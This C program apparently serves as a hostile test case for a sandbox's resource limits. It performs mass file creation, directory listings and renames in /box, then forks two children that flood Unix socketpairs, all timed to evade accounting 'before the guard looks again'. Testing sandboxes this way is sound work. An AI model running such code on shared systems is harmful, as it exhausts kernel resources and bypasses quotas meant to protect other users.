/* First slowly what nobody counts, as much as goes unnoticed, and then at once, before the guard looks again,
 * all that the limit allows of what is counted. */
#include "hostile.h"

static void keep_listings(int times)
{
    static char entries[1 << 16];
    char name[160];
    memset(name, 'n', sizeof name);
    for (int i = 0; i < 2000; i++) {
        snprintf(name + 140, 12, "%d", i);
        close(open(name, O_CREAT | O_WRONLY, 0600));
    }
    close(open("one", O_CREAT | O_WRONLY, 0600));
    for (int i = 0; i < times; i++) {
        int fd = open("/box", O_RDONLY | O_DIRECTORY);
        if (fd < 0 || syscall(SYS_getdents64, fd, entries, sizeof entries) <= 0)
            break;
        rename(i % 2 ? "two" : "one", i % 2 ? "one" : "two");
    }
}

static void burst(int reader, int megabytes)
{
    static char bytes[3500];
    int pairs[16][2], size = 1 << 23;
    char go;
    for (int i = 0; i < 16; i++) {
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pairs[i]) < 0)
            break;
        setsockopt(pairs[i][0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
    }
    (void)!read(reader, &go, 1);
    for (int i = 0; i < megabytes << 8; i++)
        (void)!write(pairs[i % 16][0], bytes, sizeof bytes);
    sleep(1);
}

int main(void)
{
    int ends[2];
    if (pipe(ends) < 0)
        return 1;
    for (int i = 0; i < 2; i++)
        if (fork() == 0) {
            burst(ends[0], 26);
            _exit(0);
        }
    keep_listings(96);
    (void)!write(ends[1], "go", 2);
    sleep(1);
    HELD();
    return 0;
}
